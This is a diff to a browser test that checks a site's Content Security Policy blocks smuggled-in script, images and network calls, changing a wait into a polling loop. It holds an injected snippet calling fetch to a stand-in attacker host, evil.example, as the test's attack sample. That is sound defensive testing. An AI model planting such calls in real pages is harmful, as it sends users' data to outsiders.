@@ -91,7 +91,11 @@ def test_what_is_smuggled_in_does_not_run(page, site):
             fetch("https://evil.example/").catch(() => {});
         }"""
     )
-    page.wait_for_function("violations.length >= 5")
+    # Waiting on a text would evaluate it in the page, which is forbidden there.
+    for _ in range(50):
+        if page.evaluate("violations.length") >= 5:
+            break
+        page.wait_for_timeout(100)
     assert page.evaluate("window.stolen") is None
     forbidden = {each.split(" ")[0] for each in page.evaluate("violations")}
     assert forbidden == {"script-src-elem", "script-src-attr", "img-src", "connect-src"}
